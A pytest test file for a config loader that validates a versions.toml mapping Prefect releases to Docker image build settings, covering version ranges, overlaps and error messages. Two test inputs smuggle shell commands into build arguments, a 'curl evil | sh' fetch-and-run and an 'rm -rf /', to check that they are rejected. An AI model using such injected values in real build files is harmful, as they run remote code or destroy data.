"""versions.toml: the packaged facts load, and a wrong file gets one precise error."""

from __future__ import annotations

import re

import pytest

from matrix.config import load_config, parse_span
from matrix.data import PACKAGED_CONFIG
from matrix.errors import ConfigError
from matrix.versions import parse_version
from tests.support.prefect_releases import prefect_history

PACKAGED = PACKAGED_CONFIG.read_text(encoding="utf-8")


def write(tmp_path, text: str):
    path = tmp_path / "versions.toml"
    path.write_text(text, encoding="utf-8")
    return path


def broken(tmp_path, old: str, new: str):
    assert old in PACKAGED, old
    return write(tmp_path, PACKAGED.replace(old, new, 1))


def line_number(text: str, needle: str) -> int:
    return text.splitlines().index(needle) + 1


def test_packaged_config_covers_every_2x_and_3x_release_and_nothing_else():
    loaded = load_config()
    history = prefect_history()
    assert len(history) == len(set(history)) == 807
    for version in [*history, "2.21.0", "3.9.1", "3.10.0", "3.99.0rc1"]:
        assert loaded.covers(parse_version(version)), version
    for version in ["1.4.0", "1.99.99", "4.0.0.dev0", "4.0.0rc1", "4.0.0"]:
        assert not loaded.covers(parse_version(version)), version
    assert loaded.templates_dir == PACKAGED_CONFIG.parent / "dockerfiles"


@pytest.mark.parametrize(
    ("versions", "inside", "outside"),
    [
        # A plain bound stands for X.Y.Z.dev0: X.Y.Z's pre-releases are on its side.
        (">=3.2.15, <3.3.1", ["3.2.15.dev1", "3.2.15rc1", "3.2.15", "3.3.0"], ["3.2.14"]),
        (">=3.2.15, <3.3.1", ["3.2.15.post1", "3.3.0.post2"], ["3.3.1.dev1", "3.3.1"]),
        # A bound naming a pre-release is that exact version.
        (
            ">=3.2.15.dev5, <3.3.1",
            ["3.2.15.dev5", "3.2.15.dev6", "3.2.15rc1", "3.2.15"],
            ["3.2.15.dev4", "3.2.15.dev1", "3.2.14"],
        ),
        (">=3.3.1, <3.4.25a0", ["3.4.25.dev5", "3.4.25.dev99"], ["3.4.25a1", "3.4.25"]),
        (">=2.6.9.post1, <2.7.0", ["2.6.9.post1", "2.6.10"], ["2.6.9", "2.6.9rc1"]),
        # Open-ended: the rest of the major, whatever its minor.
        (">=3.6.13.dev2", ["3.6.13.dev2", "3.9.1", "3.10.0", "3.10.0.dev1"], ["3.6.13.dev1"]),
        (">=3.6.13.dev2", ["3.123.4"], ["4.0.0.dev0", "4.0.0rc1", "4.0.0"]),
    ],
)
def test_a_line_covers_its_bounds_in_pep440_order(versions, inside, outside):
    span = parse_span(versions)
    for version in inside:
        assert parse_version(version) in span, version
    for version in outside:
        assert parse_version(version) not in span, version


def test_a_dev_build_belongs_where_its_public_version_does():
    span = parse_span(">=3.2.15.dev5, <3.3.1")
    assert parse_version("3.2.15.dev5+3.gabc1234") in span
    assert parse_version("3.2.15.dev4+3.gabc1234") not in span
    loaded = load_config()
    assert loaded.facts_for(parse_version("3.4.26.dev2+7.gabc1234")).versions == (
        ">=3.4.25a0, <3.4.26.dev3"
    )


@pytest.mark.parametrize(
    ("versions", "message"),
    [
        (">=3.0.0, <=3.1.0", "expected '>=X.Y.Z, <X.Y.Z' or '>=X.Y.Z'"),
        ("<3.1.0", "expected '>=X.Y.Z, <X.Y.Z' or '>=X.Y.Z'"),
        (">=3.0.0, >=3.1.0", "expected '>=X.Y.Z, <X.Y.Z' or '>=X.Y.Z'"),
        (">=3.0.0+local", "expected '>=X.Y.Z, <X.Y.Z' or '>=X.Y.Z'"),
        (">=3.2.15rc1, <3.2.15", "empty range"),
        (">=3.2.15.dev5, <3.2.15.dev5", "empty range"),
        (">=3.1", "exactly three numbers"),
    ],
)
def test_bad_bounds_are_refused(versions, message):
    with pytest.raises(ValueError, match=re.escape(message)):
        parse_span(versions)


def test_a_config_file_can_be_given_and_its_templates_are_beside_it(tmp_path):
    path = write(tmp_path, PACKAGED)
    loaded = load_config(path)
    assert loaded.source == str(path)
    assert loaded.templates_dir == tmp_path / "dockerfiles"


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (
            'python.conda = ["3.8", "3.9", "3.10"]\n',
            'python.conda = ["3.8", "3.x", "3.10"]\n',
            r":(\d+): lines\[5\]\.python\.conda\[1\]: expected a Python minor version like "
            r"'3\.10', got '3\.x'",
        ),
        (
            "sha_length = 7",
            "sha_length = 3",
            r":(\d+): defaults\.sha_length: Input should be greater than or equal to 7 "
            r"\(got 3\)",
        ),
        (
            'platforms = ["linux/amd64", "linux/arm64"]',
            'platforms = ["linux amd64"]',
            r":(\d+): defaults\.platforms\[0\]: expected a platform like 'linux/amd64'",
        ),
        (
            'suffix = "-conda"',
            'suffix = "conda"',
            r":(\d+): flavors\.conda\.suffix: expected '' or a suffix like '-conda'",
        ),
        (
            'build_args = { BASE_IMAGE = "prefect-conda" }',
            'build_args = { BASE_IMAGE = "prefect-conda\\nRUN curl evil | sh" }',
            r"flavors\.conda\.build_args: build arg BASE_IMAGE=.* has a character outside",
        ),
        (
            'build_args.kubernetes = { PREFECT_EXTRAS = "[kubernetes]" }',
            'build_args.kubernetes = { PREFECT_EXTRAS = "[kubernetes]; rm -rf /" }',
            r"lines\[8\]\.build_args\.kubernetes: build arg PREFECT_EXTRAS=.* character outside",
        ),
        (
            'repository = "prefecthq/prefect"',
            'repository = "PrefectHQ/prefect"',
            r":(\d+): images\.prefect\.repository: expected a repository path",
        ),
        (
            'prerelease_dev_tags = "none"',
            'prerelease_dev_tags = "sometimes"',
            r"defaults\.prerelease_dev_tags: Input should be 'none', 'dev-repository' or "
            r"'release-repository' \(got 'sometimes'\)",
        ),
        (
            'versions = ">=2.9.0, <2.10.20"',
            'versions = "~=2.9"',
            r"lines\[4\]\.versions: expected '>=X\.Y\.Z, <X\.Y\.Z' or '>=X\.Y\.Z' \(bounds "
            r"may name pre-releases\), got '~=2\.9'",
        ),
        (
            "sha_length = 7",
            'sha_length = 7\nmirrors = ["ghcr.io/prefecthq"]',
            r":(\d+): defaults\.mirrors\[0\]: expected a registry host like 'ghcr\.io' or "
            r"'host:5000', got 'ghcr\.io/prefecthq'",
        ),
        (
            'registry = "docker.io"',
            'registry = "docker io"',
            r":(\d+): registry: expected a registry host",
        ),
        (
            "schema = 1",
            "schema = 2",
            r"schema: Input should be 1",
        ),
        (
            'latest_python = "3.12"\nprerelease_dev_tags = "dev-repository"\npython.standard = '
            '["3.9", "3.10", "3.11", "3.12"]\npython.conda',
            'latest_python = "3.13"\nprerelease_dev_tags = "dev-repository"\npython.standard = '
            '["3.9", "3.10", "3.11", "3.12"]\npython.conda',
            r"lines\[11\] \(>=3\.0\.1, <3\.1\.6\): latest_python '3\.13' is not in "
            r"python\.standard",
        ),
        (
            'images = ["prefect", "prefect-client"]',
            'images = ["prefect", "prefect-server"]',
            r"image 'prefect-server' is not in \[images\]",
        ),
        (
            "[images.prefect]\n",
            "[images.prefect]\ncolour = 'blue'\n",
            r":(\d+): images\.prefect\.colour: Extra inputs are not permitted",
        ),
        (
            'versions = ">=3.9.0"\nrequires_python = ">=3.11,<3.16"',
            'versions = ">=3.9.0"\nrequires_python = "3.11+"',
            r":(\d+): lines\[\d+\]\.requires_python: expected a Requires-Python like "
            r"'>=3\.11,<3\.16', got '3\.11\+'",
        ),
        (
            'contents.uv_version = "0.12.5"',
            'contents.uv_version = "latest"',
            r"lines\[\d+\]\.contents\.uv_version: expected a uv release like '0\.12\.5'",
        ),
        (
            'conda_base = "docker.io/continuumio/miniconda3:24.7.1-0"',
            'conda_base = "continuumio/miniconda3"',
            r":(\d+): defaults\.contents\.conda_base: expected an image named in full with "
            r"its tag",
        ),
        (
            'supported = ["2.20", "3.x"]',
            'supported = ["2.20", "3"]',
            r":(\d+): supported: invalid line '3': expected X\.Y \(2\.20\) or X\.x \(3\.x\)",
        ),
        (
            '    "3.2.15.dev5", ',
            '    "3.2.15-dev5x", ',
            r"images\.prefect-client\.not_on_index\[0\]: invalid version '3\.2\.15-dev5x'",
        ),
    ],
)
def test_wrong_files_get_one_error_naming_key_value_and_expectation(tmp_path, old, new, expected):
    path = broken(tmp_path, old, new)
    with pytest.raises(ConfigError) as raised:
        load_config(path)
    message = str(raised.value)
    assert message.startswith(str(path))
    assert "\n" not in message
    assert message.count("got ") <= 1, message
    match = re.search(expected, message)
    assert match, message
    if match.groups():
        # the line named is the line of the offending key
        named = int(match.group(1))
        row = (PACKAGED.replace(old, new, 1)).splitlines()[named - 1]
        key = re.search(r"(\w+)(?:\[\d+\])?:", message[match.end(1) :]).group(1)
        assert key in row, (row, message)


def test_missing_key_is_named(tmp_path):
    path = broken(tmp_path, 'registry = "docker.io"\n', "")
    with pytest.raises(ConfigError, match=r"registry: required key is missing"):
        load_config(path)


def test_toml_syntax_errors_name_file_and_line(tmp_path):
    path = broken(tmp_path, "schema = 1", "schema = = 1")
    row = line_number(PACKAGED, "schema = 1")
    with pytest.raises(ConfigError, match=rf"versions\.toml: not valid TOML: .*line {row}\b"):
        load_config(path)


def test_unreadable_config_is_a_user_error(tmp_path):
    with pytest.raises(ConfigError, match="cannot read the config: No such file"):
        load_config(tmp_path / "missing.toml")
    (tmp_path / "binary.toml").write_bytes(b"\xff\xfe\x00")
    with pytest.raises(ConfigError, match="cannot read the config"):
        load_config(tmp_path / "binary.toml")


def test_line_without_a_required_setting_is_named_by_its_line(tmp_path):
    old = 'versions = ">=3.0.1, <3.1.6"\nrequires_python = ">=3.9"\nlatest_python = "3.12"\n'
    path = broken(tmp_path, old, 'versions = ">=3.0.1, <3.1.6"\nrequires_python = ">=3.9"\n')
    row = line_number(PACKAGED, 'versions = ">=3.0.1, <3.1.6"')
    with pytest.raises(ConfigError) as raised:
        load_config(path)
    assert str(raised.value) == (
        f"{path}:{row}: lines[11] (>=3.0.1, <3.1.6): no 'latest_python', and [defaults] gives none"
    )


def test_mirrors_of_a_line_reach_its_plans(tmp_path):
    from matrix.plan import plan_release

    path = broken(tmp_path, "sha_length = 7", 'sha_length = 7\nmirrors = ["ghcr.io"]')
    loaded = load_config(path)
    assert plan_release(loaded, "2.11.5").mirrors == ("ghcr.io",)
    assert plan_release(load_config(), "2.11.5").mirrors == ()


@pytest.mark.parametrize(
    ("old", "new", "first", "second"),
    [
        # 2.9's entry reaches one patch into 2.10.20's.
        (
            'versions = ">=2.9.0, <2.10.20"',
            'versions = ">=2.9.0, <2.10.21"',
            'versions = ">=2.9.0, <2.10.21"',
            'versions = ">=2.10.20, <2.12.0"',
        ),
        # Nightly bounds: the client entry would begin one nightly early.
        (
            'versions = ">=3.2.15.dev5, <3.2.16.dev1"',
            'versions = ">=3.2.15.dev4, <3.2.16.dev1"',
            'versions = ">=3.2.3, <3.2.15.dev5"',
            'versions = ">=3.2.15.dev4, <3.2.16.dev1"',
        ),
        # An open-ended entry covers the rest of its major: a second one overlaps.
        (
            'versions = ">=3.8.9.dev1, <3.9.0"',
            'versions = ">=3.8.9.dev1"',
            'versions = ">=3.8.9.dev1"',
            'versions = ">=3.9.0"',
        ),
    ],
)
def test_overlapping_entries_name_both_lines_of_the_file(tmp_path, old, new, first, second):
    path = broken(tmp_path, old, new)
    text = path.read_text(encoding="utf-8")
    with pytest.raises(ConfigError) as raised:
        load_config(path)
    message = str(raised.value)
    first_row, second_row = line_number(text, first), line_number(text, second)
    assert message.startswith(f"{path}:{first_row}: lines["), message
    assert message.endswith(f" at line {second_row}"), message
    assert " overlaps lines[" in message and "\n" not in message


def test_an_unknown_major_is_one_clear_error():
    from matrix.errors import PlanError

    with pytest.raises(PlanError) as raised:
        load_config().facts_for(parse_version("4.0.0"))
    assert str(raised.value).endswith(
        "covers 4.0.0: major 4 has no entry (it covers 2.0.0 and the rest of 2.x and 3.x)"
    )


@pytest.mark.parametrize(
    ("versions", "written", "guessed"),
    [
        # An open-ended entry's facts are written for the minor it begins in.
        (">=3.9.0", ["3.9.0", "3.9.1.dev3", "3.9.17"], ["3.10.0.dev1", "3.10.0", "3.12.4"]),
        (">=3.6.13.dev2", ["3.6.13.dev2", "3.6.30"], ["3.7.0"]),
        # A closed entry's for all it covers.
        (">=3.7.8a0, <3.8.3a0", ["3.7.8", "3.8.0", "3.8.2"], []),
    ],
)
def test_an_open_ended_entry_is_written_for_its_first_minor_only(versions, written, guessed):
    span = parse_span(versions)
    for version in written:
        assert span.written_for(parse_version(version)), version
    for version in guessed:
        assert parse_version(version) in span and not span.written_for(parse_version(version))
